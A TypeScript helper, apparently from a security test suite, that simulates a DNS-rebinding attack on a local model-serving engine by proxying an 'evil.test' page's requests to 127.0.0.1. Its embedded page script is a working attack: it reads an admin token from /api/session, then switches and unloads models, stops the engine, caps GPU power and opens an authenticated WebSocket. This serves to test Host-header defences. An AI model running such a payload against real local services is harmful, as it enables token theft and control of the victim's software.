import { createServer, request, type IncomingMessage, type Server } from 'node:http';
import { connect, type AddressInfo, type Socket } from 'node:net';

export interface RebindingForwarder {
  port: number;
  /** The attack page's URL under `host` (a name the browser maps to 127.0.0.1). */
  pageUrl(host: string, targets: { switchTo: string; unload: string; gpuUuid: string }): string;
  close(): Promise<void>;
}

/**
 * What a DNS-rebinding attack looks like to the browser and the engine, without a DNS server: the
 * page comes from `http://evil.test:<port>/rebind`, then every other request to that same origin
 * (its own fetches, its WebSocket) reaches the engine byte for byte, Host and Origin unchanged,
 * as when evil.test had been re-pointed at 127.0.0.1. The engine sees a loopback client of its
 * own uid (this process): only the Host check stands between the page and /api/session's token.
 */
export async function startRebindingForwarder(enginePort: number): Promise<RebindingForwarder> {
  const sockets = new Set<Socket>();
  const server: Server = createServer((req, res) => {
    if (new URL(req.url ?? '/', 'http://x').pathname === '/rebind') {
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'no-store' }).end(REBIND_PAGE);
      return;
    }
    const upstream = request({ host: '127.0.0.1', port: enginePort, method: req.method, path: req.url, headers: req.rawHeaders, agent: false }, (answer) => {
      res.writeHead(answer.statusCode ?? 502, answer.rawHeaders);
      answer.pipe(res);
    });
    upstream.on('error', () => res.destroy());
    req.pipe(upstream);
  });
  server.on('connection', (s) => {
    sockets.add(s);
    s.on('close', () => sockets.delete(s));
  });
  server.on('upgrade', (req: IncomingMessage, socket: Socket, head: Buffer) => {
    const upstream = connect(enginePort, '127.0.0.1', () => {
      upstream.write(`${req.method} ${req.url} HTTP/1.1\r\n${headerLines(req.rawHeaders)}\r\n`);
      upstream.write(head);
      socket.pipe(upstream).pipe(socket);
    });
    sockets.add(upstream);
    upstream.on('close', () => sockets.delete(upstream));
    upstream.on('error', () => socket.destroy());
    socket.on('error', () => upstream.destroy());
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const port = (server.address() as AddressInfo).port;
  return {
    port,
    pageUrl: (host, targets) => `http://${host}:${port}/rebind?${new URLSearchParams({ ...targets })}`,
    close: () =>
      new Promise((resolve) => {
        for (const s of sockets) s.destroy();
        server.close(() => resolve());
      }),
  };
}

function headerLines(raw: string[]): string {
  let text = '';
  for (let i = 0; i < raw.length; i += 2) text += `${raw[i]}: ${raw[i + 1]}\r\n`;
  return text;
}

// Same origin as the "engine" now: it may send JSON, read every answer and open the WebSocket.
const REBIND_PAGE = `<!doctype html>
<meta charset="utf-8"><title>rebinding</title>
<script>
const q = new URLSearchParams(location.search);
const results = {};
window.attack = { done: false, results };
const json = (body) => ({ method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });
const call = (label, path, init) => fetch(path, init).then(
  (r) => r.text().then((t) => (results[label] = { status: r.status, body: t.slice(0, 400) })),
  (e) => (results[label] = { error: e.message }),
);
const socket = (label, protocols) => new Promise((resolve) => {
  const events = (results[label] = []);
  const ws = new WebSocket('ws://' + location.host + '/api/ws', protocols);
  ws.onopen = () => events.push('open');
  ws.onerror = () => events.push('error');
  ws.onclose = (e) => { events.push('close:' + e.code); resolve(); };
});
(async () => {
  // First the token: with it every call below would pass the key check.
  await call('session', '/api/session');
  let token = '';
  try { token = JSON.parse(results.session.body).adminToken || ''; } catch {}
  const auth = token ? { authorization: 'Bearer ' + token } : {};
  const withAuth = (init) => ({ ...init, headers: { ...init.headers, ...auth } });
  await Promise.all([
    call('ui', '/ui/'),
    call('state', '/api/state', { headers: auth }),
    call('switch', '/api/models/' + encodeURIComponent(q.get('switchTo')) + '/switch', withAuth(json({}))),
    call('unload', '/api/models/' + encodeURIComponent(q.get('unload')) + '/unload', withAuth(json({}))),
    call('stop', '/api/stop', withAuth(json({}))),
    call('powerLimit', '/api/gpu/power-limit', withAuth(json({ gpu: q.get('gpuUuid'), watts: 150, revertAfterS: 600 }))),
    call('chat', '/v1/chat/completions', json({ model: q.get('switchTo'), messages: [{ role: 'user', content: 'hi' }], max_tokens: 5 })),
    call('models', '/v1/models'),
    socket('ws', token ? ['switchboard.v1', 'switchboard.key.' + btoa(token).replace(/\\+/g, '-').replace(/\\//g, '_').replace(/=+$/, '')] : ['switchboard.v1']),
  ]);
  window.attack.done = true;
})();
</script>
`;
